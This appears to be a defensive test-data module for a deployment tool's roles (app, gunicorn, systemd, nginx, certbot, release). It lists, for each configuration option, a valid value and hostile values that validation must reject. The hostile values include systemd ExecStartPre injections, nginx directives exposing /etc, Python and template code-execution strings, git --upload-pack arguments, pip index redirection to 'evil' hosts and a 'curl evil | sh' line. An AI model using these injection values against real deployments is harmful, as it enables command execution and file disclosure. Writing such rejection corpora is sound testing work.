# Copyright (c) 2025, pyops maintainers
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile-input corpus: for every string or list option that reaches a file or a command, its role,
a value that passes, and the values that must fail.

Each option gets the generic hostile values of HOSTILE_KINDS built from its good value (minus the kinds
that are harmless where the value lands, named in `harmless` with the reason), plus its own `extra`
values. test_preflight_tables.py runs all of them through the roles' real checks (meta/preflight.yml
evaluated by the pyops.fastapi.preflight action's code).
"""

from __future__ import annotations

from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[4]
# The roles whose input the corpus covers, in the order the site playbook checks them.
ROLES = ("app", "gunicorn", "image", "systemd", "nginx", "certbot", "release")


def role_options(role):
    """The options of a role's main entry point, from its argument spec."""
    specs = yaml.safe_load((ROOT / "roles" / role / "meta" / "argument_specs.yml").read_text())
    return specs["argument_specs"]["main"]["options"]


OVERLONG = 5000
# Look-alikes of ASCII characters (Cyrillic, full-width, Unicode slashes and dashes).
LOOKALIKES = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "x": "\u0445",
    "/": "\u2215",
    ".": "\uff0e",
    "-": "\u2010",
    "1": "\uff11",
    "0": "\uff10",
    ":": "\uff1a",
    "*": "\u2217",
    "A": "\u0410",
    "E": "\u0415",
    "O": "\u041e",
    "P": "\u0420",
    "C": "\u0421",
    "X": "\u0425",
    "T": "\u0422",
    "_": "\uff3f",
    "2": "\uff12",
    "5": "\u0665",
}


def _lookalike(good):
    for index, char in enumerate(good):
        if char in LOOKALIKES:
            return good[:index] + LOOKALIKES[char] + good[index + 1 :]
    raise ValueError(f"no look-alike for {good!r}")


HOSTILE_KINDS = {
    "line break + directive": lambda g: g + "\nExecStartPre=+/bin/sh -c 'id > /tmp/pwned'",
    "trailing line break": lambda g: g + "\n",
    "carriage return": lambda g: g + "\r",
    "';' and braces": lambda g: g + "; location /leak/ { alias /etc/; autoindex on; }",
    "closing docstring": lambda g: g + '"""; __import__("os").system("id"); """',
    "template": lambda g: g + "{{ lookup('pipe', 'id') }}",
    "'..'": lambda g: g + "/../../etc",
    "NUL": lambda g: g[:1] + "\x00" + g[1:],
    "overlong": lambda g: g + "a" * OVERLONG,
    "look-alike Unicode": _lookalike,
}

# Why a kind is harmless for a kind of value (it is quoted, escaped, or a shell command on purpose).
ONE_LINE_ANYTHING = {
    "';' and braces": "stays inside quotes, an argv item or a shell command",
    "closing docstring": "no docstring; quotes are fine there",
    "template": "the value is data, never templated again",
    "'..'": "not a path",
}


PATH_EXTRA = ["/", "/opt/app/", "/opt//app", "/opt/./app", "opt/app", "/opt/app name", "/opt/%i/x", "/opt/$x"]
HOST_EXTRA = ["Api.example.test", "*.example.test", "a_b.example.test", "-a.example.test", "api.example.test x"]

# option -> (role, good value, harmless kinds, extra values). "name[field]": a field of a list of
# mappings, or a name or value of a mapping (test_preflight_tables.py puts the value there).
# Environment names the runtime reads (issue 18, finding 8): refused wherever the app's environment is set.
RUNTIME_ENV = [
    "LD_PRELOAD",
    "ld_library_path",
    "LD_AUDIT",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "GUNICORN_CMD_ARGS",
    "FORWARDED_ALLOW_IPS",
    "PATH",
    "NOTIFY_SOCKET",
]

CORPUS = {
    # app
    "app_name": ("app", "fastapi-app", {}, ["App", "a" * 32, "a_b"]),
    "app_user": ("app", "fastapi-app", {}, ["Root", "a b", "a:b"]),
    "app_group": ("app", "fastapi-app", {}, ["a,b", "-a"]),
    "app_base_dir": ("app", "/opt/fastapi-app", {}, PATH_EXTRA),
    "app_module": (
        "app",
        "main:app",
        {},
        ["main", "main:app:x", "main:app()()", '__import__("os"):x'],
    ),
    "app_build_user": ("app", "fastapi-app-build", {}, ["root:x", "a b", "A"]),
    "app_pip_index_url": (
        "app",
        "https://user:t0ken@pypi.example.test/simple",
        {},
        ["ftp://pypi.example.test/", "https://pypi.example.test/simple --trusted-host x", "https://x/#y"],
    ),
    "app_pip_extra_index_urls": (
        "app",
        "https://pypi.example.test/simple",
        {},
        ["https://u:p w@x.test/", "https://x.test/simple\nindex-url = http://evil.test/", "-i http://x.test"],
    ),
    "app_secret_key": (
        "app",
        "3f9c2b7e1d4a6f8e0b5c9d2a7e4f1b3c",
        ONE_LINE_ANYTHING,
        ["abc'def", "abc\\def", ""],
    ),
    "app_database_url": (
        "app",
        "postgresql://app:pw@db.example.test/app",
        ONE_LINE_ANYTHING,
        ["postgresql://app:p'w@db/app", "postgresql://app:p\\w@db/app"],
    ),
    # Names that change how the runtime runs the app (issue 18, finding 8), after malformed names.
    "app_env[name]": ("app", "APP_NAME", {}, ["1X", "A-B", "A B", "A=B", *RUNTIME_ENV]),
    "app_env[value]": (
        "app",
        "production",
        ONE_LINE_ANYTHING,
        ["it's", "a\\b"],
    ),
    "app_secrets[name]": ("app", "PAYMENT_TOKEN", {}, ["1X", "A-B", "A B", "SECRET_KEY", "database_url", *RUNTIME_ENV]),
    "app_secrets[value]": ("app", "tok-0123456789", ONE_LINE_ANYTHING, ["it's", "a\\b", ""]),
    "app_secret_files[name]": ("app", "JWT_KEY_FILE", {}, ["1X", "A B", "PATH", "SECRET_KEY", "APP_NAME"]),
    # A file's content, never parsed: line breaks, quotes and braces are its own; only text is accepted.
    "app_secret_files[value]": (
        "app",
        "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n",
        {
            **ONE_LINE_ANYTHING,
            "line break + directive": "a secret file holds lines; it is written as it is, never read as a unit",
            "trailing line break": "a secret file holds lines",
            "carriage return": "a secret file holds lines",
            "overlong": "a secret file holds up to 64 KiB",
        },
        ["", "a" * 65537, "caf\u00e9", "key\x1b[31m"],
    ),
    # app_processes and app_timers: a unit's name part, a shell command run on purpose (quoted into
    # ExecStart=), systemd's calendar syntax (also checked on the host by systemd-analyze calendar).
    "app_processes[name]": ("app", "queue-worker", {}, ["Worker", "a.b", "a_b", "-x", "a" * 32, "", "a b", "a@b"]),
    "app_processes[command]": (
        "app",
        "celery -A proj worker --concurrency=2 --logfile=$STATE_DIRECTORY/w.log",
        ONE_LINE_ANYTHING,
        ["", "   ", "celery worker\nExecStartPre=+/bin/id"],
    ),
    "app_timers[name]": ("app", "nightly-report", {}, ["Nightly", "a.b", "x" * 40, "", "a/b", "-x"]),
    "app_timers[command]": ("app", "python -m proj.report --since '1 day'", ONE_LINE_ANYTHING, ["", "\t"]),
    "app_timers[on_calendar]": (
        "app",
        "Mon..Fri *-*-* 03:00:00 Europe/Berlin",
        {"'..'": "not a path: a range of weekdays is written with '..' (systemd-analyze calendar checks the rest)"},
        ["", "daily; id", "daily\n[Service]", "$(id)", "'daily'", "%n", "daily #x", "daily\\"],
    ),
    # nginx_extra_locations: a location's path and its times and size, written into the site file.
    "nginx_extra_locations[path]": (
        "nginx",
        "/events/",
        {},
        ["/", "//", "events", "/health", "/health/detailed/x", "/docs/x", "/openapi.json", "/static/x", "/a b", "/a;b"],
    ),
    "nginx_extra_locations[read_timeout]": ("nginx", "1h", {}, ["1 h", "-1s", "1h;", "forever", ""]),
    "nginx_extra_locations[send_timeout]": ("nginx", "300s", {}, ["300 s", "0x10", "1h}"]),
    "nginx_extra_locations[client_max_body_size]": ("nginx", "1g", {}, ["1 g", "1t", "-1m", "1g;", ""]),
    "app_server_packages": (
        "app",
        "uvicorn[standard]==0.38.0",
        {},
        ["gunicorn", "gunicorn>=27", "gunicorn==27 --index-url=http://evil", "-e git+https://x", "gunicorn==27;x"],
    ),
    "app_uv_version": ("app", "0.13.9", {}, ["0.13.9 --index-url=http://evil", ">=0.13", "0.13.9;x", "0.13.9\n"]),
    "app_poetry_version": ("app", "2.5.1", {}, ["2.5.1 poetry-core", "", "2.5.1 -e x", "latest"]),
    "app_poetry_plugin_export_version": ("app", "1.10.1", {}, ["1.10.1 --pre", "*", "1.10.1 x==1"]),
    "app_requirements_file": (
        "app",
        "requirements/prod.txt",
        {},
        ["/etc/passwd", "../requirements.txt", "a/../../x", "./requirements.txt", "a//b", "a/"],
    ),
    "app_source_excludes": (
        "app",
        "*.pyc",
        ONE_LINE_ANYTHING,
        [],
    ),
    "app_source_path": ("app", "../myapp", ONE_LINE_ANYTHING, [""]),
    # A release built on the build host (playbooks/build.yml): its id and virtualenv key name directories.
    "app_release_artifact[id]": (
        "app",
        "20261207T101500Z",
        {},
        ["", "../x", "2026-12-07", "20261207T101500Z/../../etc"],
    ),
    "app_release_artifact[venv]": (
        "app",
        "0123456789abcdef",
        {},
        ["", "../../etc", "0123456789ABCDEF", "0123456789abcde"],
    ),
    # Compared with what a host runs, never written into a configuration or run.
    "app_release_artifact[revision]": ("app", "local-0123abcd", ONE_LINE_ANYTHING, ["", "\t"]),
    # A directory on the controller: absolute or under ~/, no '.' or '..' component.
    "app_artifact_dir": ("app", "~/.cache/pyops-fastapi", {}, ["", "relative/dir", "~user/x", "/a/./b", "-x", "/a b"]),
    "app_pip_extra_args": (
        "app",
        "--index-url https://pypi.example.test/simple",
        ONE_LINE_ANYTHING,
        [],
    ),
    "app_git_repo": (
        "app",
        "https://git.example.test/team/app.git",
        {"'..'": "a URL, not a local path"},
        ["--upload-pack=touch /tmp/pwned", "-uhttps://x", "https://x/a b"],
    ),
    "app_git_version": (
        "app",
        "release/1.2",
        {},
        ["--upload-pack=id", "-b", "main..dev", "a b", "main@{1}", "main.lock", "a//b"],
    ),
    # gunicorn
    "gunicorn_extra_settings[name]": (
        "gunicorn",
        "backlog",
        {},
        ["bind", "worker_class", "wsgi_app", "on_starting", "accesslog", "backlog = 1; import os"],
    ),
    "gunicorn_extra_settings[value]": (
        "gunicorn",
        "2048",
        {},
        ["2048; import os", "-1", "0x10", "1e9", "__import__('os')"],
    ),
    "gunicorn_accesslog": (
        "gunicorn",
        "/var/log/app/access.log",
        {},
        PATH_EXTRA,
    ),
    "gunicorn_errorlog": ("gunicorn", "/var/log/app/error.log", {}, PATH_EXTRA),
    "gunicorn_control_socket": (
        "gunicorn",
        "/run/app/ctl.sock",
        {},
        PATH_EXTRA,
    ),
    "gunicorn_forwarded_allow_ips": (
        "gunicorn",
        "127.0.0.1, ::1,10.0.0.0/8",
        {},
        ["127.0.0.1,", "*;", "127.0.0.1 10.0.0.1", "localhost", "127.0.0.1\n", "::1%x"],
    ),
    "gunicorn_proc_name": (
        "gunicorn",
        "fastapi-app",
        {},
        ["a b", "a" * 65, ""],
    ),
    # systemd
    "systemd_description": (
        "systemd",
        "FastAPI application fastapi-app (Gunicorn with Uvicorn workers)",
        ONE_LINE_ANYTHING,
        [
            "x\n[Service]\nExecStartPre=+/bin/sh -c 'id > /tmp/pwned'",
            "app %n on %H",
            "app\\nExecStartPre=+/bin/id",
            " leading space",
            "",
        ],
    ),
    "systemd_extra_environment[name]": (
        "systemd",
        "LOG_LEVEL",
        {},
        ["A B", "A=B", "1A", *RUNTIME_ENV],
    ),
    "systemd_extra_environment[value]": (
        "systemd",
        'debug "quoted" 100% \\ ok',
        ONE_LINE_ANYTHING,
        [],
    ),
    "systemd_extra_directives[name]": (
        "systemd",
        "LimitNOFILE",
        {},
        ["ExecStartPre", "User", "limitnofile", "LimitNOFILE=1\nExecStartPre=+/bin/id", "ProtectSystem", "Environment"],
    ),
    "systemd_extra_directives[value]": (
        "systemd",
        "65536",
        {},
        ["65536 1", "%n", "-", "1:", "yes", "1\nUser=root"],
    ),
    "systemd_after": (
        "systemd",
        "postgresql.service",
        {},
        ["x.service\n", "x.service y.service", "postgresql", "x.service;y.service", "x\\x2d.service", ""],
    ),
    "systemd_wants": (
        "systemd",
        "redis-server.service",
        {},
        ["y.service\n", "a.service\nExecStartPre=+/bin/id", "%i.service"],
    ),
    "systemd_read_write_paths": (
        "systemd",
        "-/var/lib/fastapi-app",
        {},
        [*PATH_EXTRA, "-/", "/var/../", "/var/lib/%h"],
    ),
    "systemd_memory_max": (
        "systemd",
        "512M",
        {},
        ["512M\n"],
    ),
    "systemd_cpu_quota": ("systemd", "150%", {}, ["150"]),
    "systemd_tasks_max": ("systemd", "256", {}, ["-1"]),
    "systemd_ip_address_allow": (
        "systemd",
        "10.0.0.0/8",
        {},
        ["10.0.0.0/8 192.168.0.0/16", "10.0.0.300", "anywhere", "10.0.0.1\nExecStartPre=+/bin/id", "fe80::1%eth0/64"],
    ),
    "systemd_ip_address_deny": (
        "systemd",
        "any",
        {},
        ["any localhost", "::1/129", "Any", "::1%x"],
    ),
    "systemd_socket_group": ("systemd", "www-data", {}, ["www data", "root:root", "-g"]),
    "systemd_umask": ("systemd", "0027", {}, ["0028", "27"]),
    "systemd_runtime_directory_mode": ("systemd", "0755", {}, ["0o755"]),
    "systemd_restrict_address_families": (
        "systemd",
        "AF_UNIX",
        {},
        ["AF_UNIX AF_PACKET"],
    ),
    # nginx
    # image
    "image_base": ("image", "localhost/pyops-base:13", {}, ["-v/etc:/x", "Debian", "a//b", "debian@sha256:abc", ""]),
    "image_repository": (
        "image",
        "localhost/fastapi-app",
        {},
        ["localhost/app:tag", "localhost/app@sha256:" + "a" * 64],
    ),
    "image_health_path": ("image", "/health", {}, ["health", "/a/../b", "/a?b"]),
    "image_registry_username": ("image", "ci-bot", {}, ["ci bot", "-p", "a" * 129, ""]),
    # Reaches podman on its standard input, never a command line or a file: one printable line, anything on it.
    "image_registry_password": ("image", "t0ken-9f8e7d6c", ONE_LINE_ANYTHING, ["", "a\tb"]),
    "nginx_server_name": ("nginx", "api.example.test", {}, HOST_EXTRA),
    "nginx_server_aliases": ("nginx", "www.example.test", {}, ["a" * 64 + ".test"]),
    "nginx_site_name": (
        "nginx",
        "fastapi-app",
        {},
        ["../x", ".hidden", "a/b", "a b"],
    ),
    "nginx_upstream_servers": (
        "nginx",
        "10.0.0.5:8000 max_fails=3",
        {},
        ["10.0.0.5:8000; }", "10.0.0.5:70000", "unix:/run/a b", "10.0.0.5:8000 max_fails=3\n"],
    ),
    "nginx_client_max_body_size": ("nginx", "10m", {}, ["10mb", "-1", "10 m"]),
    "nginx_proxy_connect_timeout": ("nginx", "60s", {}, ["60 s", "s", "1x"]),
    "nginx_proxy_send_timeout": ("nginx", "1h30m", {}, ["60s;"]),
    "nginx_proxy_read_timeout": ("nginx", "250ms", {}, ["-5s"]),
    "nginx_static_expires": ("nginx", "30d", {}, ["30d\n", "max"]),
    "nginx_ssl_certificate": (
        "nginx",
        "/etc/nginx/ssl/a/fullchain.pem",
        {},
        PATH_EXTRA,
    ),
    "nginx_ssl_certificate_key": (
        "nginx",
        "/etc/nginx/ssl/a/privkey.pem",
        {},
        PATH_EXTRA,
    ),
    "nginx_ssl_trusted_certificate": ("nginx", "/etc/ssl/chain.pem", {}, PATH_EXTRA),
    "nginx_acme_webroot": ("nginx", "/var/www/acme", {}, PATH_EXTRA),
    "nginx_static_dir": (
        "nginx",
        "/opt/app/current/static",
        {},
        PATH_EXTRA,
    ),
    "nginx_resolvers": (
        "nginx",
        "[2001:db8::53]:53",
        {},
        [
            "1.1.1.1; location /leak/ { alias /etc/; autoindex on; }",
            "1.1.1.1 valid=1s",
            "$host",
            "valid=",
            "ipv6=maybe",
        ],
    ),
    "nginx_referrer_policy": (
        "nginx",
        "no-referrer",
        ONE_LINE_ANYTHING,
        ['x" always; add_header X-Leak "y', "x\\", "$host"],
    ),
    "nginx_permissions_policy": (
        "nginx",
        "camera=()",
        ONE_LINE_ANYTHING,
        ['"'],
    ),
    "nginx_cross_origin_opener_policy": (
        "nginx",
        "same-origin",
        ONE_LINE_ANYTHING,
        ["$request_uri"],
    ),
    "nginx_content_security_policy": (
        "nginx",
        "default-src 'none'; frame-ancestors 'none'",
        ONE_LINE_ANYTHING,
        ["default-src 'none'\"; return 200 \"x"],
    ),
    "nginx_docs_content_security_policy": (
        "nginx",
        "default-src 'self'; img-src 'self' data:",
        ONE_LINE_ANYTHING,
        ["a\\"],
    ),
    "nginx_extra_headers[name]": (
        "nginx",
        "X-Robots-Tag",
        {},
        ["X Y", "X:Y", ""],
    ),
    "nginx_extra_headers[value]": (
        "nginx",
        "noindex",
        ONE_LINE_ANYTHING,
        ['"'],
    ),
    "nginx_docs_paths": (
        "nginx",
        "/docs",
        {},
        ["/docs/../etc", "/docs;", "/docs {", "docs", "/docs/./x", "/docs$"],
    ),
    "nginx_backend_allow": (
        "nginx",
        "10.0.0.10/32",
        {},
        [
            "all",
            "10.0.0.10; allow all",
            "10.0.0.10 1;\n    0.0.0.0/0",
            "10.0.0.0/33",
            "lb.example.test",
            "::1%x; allow all",
        ],
    ),
    "nginx_backend_listen_addresses": (
        "nginx",
        "10.0.0.5",
        {},
        ["10.0.0.5:8080", "10.0.0.5; listen 0.0.0.0", "0.0.0.0", "8.8.8.8", "fe80::1%eth0", "app1.internal", "::"],
    ),
    "nginx_upstream_drained": (
        "nginx",
        "10.0.0.5:8080",
        {},
        ["10.0.0.5:8080 down; server 10.6.6.6:80", "10.0.0.5:8080;", "10.0.0.5", "10.0.0.5:8080\n"],
    ),
    "nginx_detailed_health_allow": (
        "nginx",
        "10.0.0.0/8",
        {},
        ["all", "10.0.0.1; allow all", "256.1.1.1", "10.0.0.0/33", "::1/129", "fe80::1%eth0"],
    ),
    "nginx_client_header_timeout": (
        "nginx",
        "10s",
        {},
        ["10s; autoindex on", "10 s", "-1s"],
    ),
    "nginx_client_body_timeout": ("nginx", "10s", {}, ["10s\nlocation / {}", "ten"]),
    "nginx_send_timeout": ("nginx", "1m", {}, ["1m;", "m"]),
    "nginx_client_keepalive_timeout": ("nginx", "30s", {}, ["30s 30s", "30s\n"]),
    "nginx_rate_limit_rate": (
        "nginx",
        "20r/s",
        {},
        ["20r/s burst=1000", "0r/s", "20r/h", "20 r/s"],
    ),
    "nginx_rate_limit_zone_size": ("nginx", "10m", {}, ["10m rate=1r/s", "10mb"]),
    # Trusting everyone would let every client choose the address the rate limit and allow-lists see.
    "nginx_trusted_proxies": (
        "nginx",
        "173.245.48.0/20",
        {},
        ["0.0.0.0/0", "::/0", "0.0.0.0/1", "10.0.0.1; set_real_ip_from 0.0.0.0/0", "all", "unix:"],
    ),
    "nginx_real_ip_header": (
        "nginx",
        "CF-Connecting-IP",
        {},
        ["X-Forwarded-For; real_ip_recursive off", "proxy_protocol", "Host", "X Forwarded For", "X_Real_IP"],
    ),
    "nginx_gzip_types": (
        "nginx",
        "application/json",
        {},
        ["application/json; gzip_proxied off", "*", "application/*", "Application/JSON", "text"],
    ),
    "nginx_rate_limit_exempt_addresses": (
        "nginx",
        "127.0.0.1",
        {},
        ["0.0.0.0/0 1; }", "all", "localhost", "127.0.0.1 0", "::1%lo"],
    ),
    "nginx_rate_limit_exempt_paths": (
        "nginx",
        "/health",
        {},
        ['/health" ""; default ""', "health", "/a b", "/a?b"],
    ),
    "nginx_openapi_path": ("nginx", "/openapi.json", {}, ["/openapi.json { allow all; }", "x"]),
    # certbot
    "certbot_domains": (
        "certbot",
        "api.example.test",
        {},
        [*HOST_EXTRA, "localhost", "10.0.0.1"],
    ),
    "certbot_cert_name": ("certbot", "api.example.test", {}, ["../x", ".x", "a/b", "a b"]),
    "certbot_email": (
        "certbot",
        "ops@example.test",
        {},
        ["ops@example.test,evil@x.test", "ops", "ops@localhost", "ops @example.test", "--agree-tos@x.test "],
    ),
    "certbot_acme_server": (
        "certbot",
        "https://acme.example.test:14000/dir",
        {},
        ["http://acme.example.test/dir", "https://a b/", "https://x/dir?x=1", "https://x/#y", "https://"],
    ),
    "certbot_acme_ca_bundle": (
        "certbot",
        "/etc/ssl/pebble.pem",
        {},
        PATH_EXTRA,
    ),
    "certbot_webroot": ("certbot", "/var/www/acme", {}, PATH_EXTRA),
    "certbot_nginx_certificate": (
        "certbot",
        "/etc/nginx/ssl/a/fullchain.pem",
        {},
        PATH_EXTRA,
    ),
    "certbot_nginx_certificate_key": (
        "certbot",
        "/etc/nginx/ssl/a/privkey.pem",
        {},
        PATH_EXTRA,
    ),
    "certbot_nginx_check_address": (
        "certbot",
        "127.0.0.1",
        {},
        ["127.0.0.1:443", "-h", "::1%x"],
    ),
    "certbot_nginx_check_server_name": ("certbot", "api.example.test", {}, HOST_EXTRA),
    # release
    "release_health_endpoints[path]": (
        "release",
        "/health",
        {},
        ["health", "/health/../admin", "/health?x", "/health#x", "//evil.test/"],
    ),
    "release_hooks[name]": (
        "release",
        "migrate db",
        {},
        ["migrate\n", "-x", "a/b"],
    ),
    "release_hooks[command]": (
        "release",
        "alembic upgrade head && python -m app.seed",
        ONE_LINE_ANYTHING,
        ["", "alembic upgrade head\n/bin/sh -c 'curl evil | sh'"],
    ),
    "release_gate_url": (
        "release",
        "https://127.0.0.1:443",
        {},
        ["file:///etc/passwd", "https://127.0.0.1:443 -k", "https://127.0.0.1/\n", "gopher://x/"],
    ),
    "release_gate_host": ("release", "api.example.test", {}, HOST_EXTRA),
    "release_before_takeover_tasks": (
        "release",
        "/srv/deploy/drain.yml",
        {},
        PATH_EXTRA,
    ),
    "release_gate_ca_path": ("release", "/etc/ssl/ca.pem", {}, PATH_EXTRA),
    "release_gate_certificate": (
        "release",
        "/etc/nginx/ssl/a/fullchain.pem",
        {},
        PATH_EXTRA,
    ),
    "release_rollback_to": (
        "release",
        "20260101T120000Z",
        {},
        ["20260101T120000Z\n", "../20260101T120000Z", "latest"],
    ),
}


def hostile_values(option):
    """The (kind, value) pairs that must fail for option."""
    _role, good, harmless, extra = CORPUS[option]
    values = [(kind, build(good)) for kind, build in HOSTILE_KINDS.items() if kind not in harmless]
    return values + [(f"extra {index}", value) for index, value in enumerate(extra)]
